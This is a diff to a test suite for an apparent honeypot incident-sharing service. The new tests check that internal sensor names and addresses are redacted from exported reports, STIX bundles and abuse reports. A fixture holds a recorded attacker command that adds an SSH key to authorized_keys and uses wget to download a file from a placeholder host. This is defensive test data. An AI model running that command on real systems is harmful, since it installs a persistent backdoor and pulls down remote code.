@@ -38,7 +38,10 @@ const events = [
     ip: '::ffff:203.0.113.1',
     action: 'input',
     session: 'a',
-    command: `echo ssh-rsa ${key} >> ~/.ssh/authorized_keys; wget http://198.51.100.9/x; echo secret-pot 192.0.2.66`,
+    command: `echo ssh-rsa ${key} >> ~/.ssh/authorized_keys; wget http://198.51.100.9/x; echo secret-pot 192.0.2.66 192.0.2.99 3221226083`,
+    // Where it was reached the inventory does not say.
+    destination_ip: '::ffff:192.0.2.99',
+    direction: 'inbound',
   },
   {
     s: 9,
@@ -172,7 +175,12 @@ describe('sharing', () => {
     assert.equal(response.statusCode, 200, response.body);
     assert.match(response.body, /"TLP": "CLEAR"/);
     assert.match(response.body, new RegExp(hash));
-    assert.doesNotMatch(response.body, /secret-pot|192\.0\.2\.66/);
+    assert.doesNotMatch(response.body, /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
+    for (const own of [`/${number}/file?format=html`, `/file?format=idmef&numbers=${number}`]) {
+      const { body } = await ask('analyst', `/api/v1/incidents${own}`);
+      assert.match(body, /authorized_keys/);
+      assert.doesNotMatch(body, /secret-pot|192\.0\.2\.(?:66|99)|3221226083/, own);
+    }
     const { changes } = (await ask('administrator', '/api/v1/audit?verb=export%20incident')).json();
     assert.deepEqual([changes[0].actor, changes[0].subject], ['analyst', `#${number}`]);
   });
@@ -209,7 +217,7 @@ describe('sharing', () => {
     const lines = Buffer.from(made.evidence[0].payload, 'base64').toString().trim().split('\n');
     assert.equal(lines.length, 3);
     assert.match(lines[0]!, /^2026-05-20T12:00:00\.000000Z from port 40000 to tcp 22 ssh authenticate/);
-    assert.doesNotMatch(lines.join(), /hunter2|secret-pot|192\.0\.2\.66/);
+    assert.doesNotMatch(lines.join(), /hunter2|secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
     assert.equal((await report('203.0.113.9')).statusCode, 404);
     assert.equal((await report('not an address')).statusCode, 400);
     const { changes } = (await ask('administrator', '/api/v1/audit?verb=make%20abuse%20report')).json();
@@ -299,7 +307,7 @@ describe('sharing', () => {
     assert(patterns.includes("[user-account:user_id = 'root' AND user-account:credential = 'hunter2']"));
     assert(patterns.includes(`[artifact:payload_bin = b'${key}']`));
     assert.match(indicators[0].description, /sensors: sensor-/);
-    assert.doesNotMatch(JSON.stringify(bundle), /secret-pot|192\.0\.2\.66/);
+    assert.doesNotMatch(JSON.stringify(bundle), /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
     const validate = compile2020('stix')(
       'http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/sdos/indicator.json',
     );
@@ -423,7 +431,7 @@ describe('sharing', () => {
         const validate = find(`${base}/${folders[object.type] ?? 'sdos'}/${object.type}.json`);
         assert(validate(object), `${object.id}: ${JSON.stringify(validate.errors)}`);
       }
-      assert.doesNotMatch(JSON.stringify(whole), /secret-pot|192\.0\.2\.66/);
+      assert.doesNotMatch(JSON.stringify(whole), /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
     }
     const typed = await get(`${incidents}/objects/?match%5Btype%5D=incident`);
     assert.equal(typed.objects.length, 4);
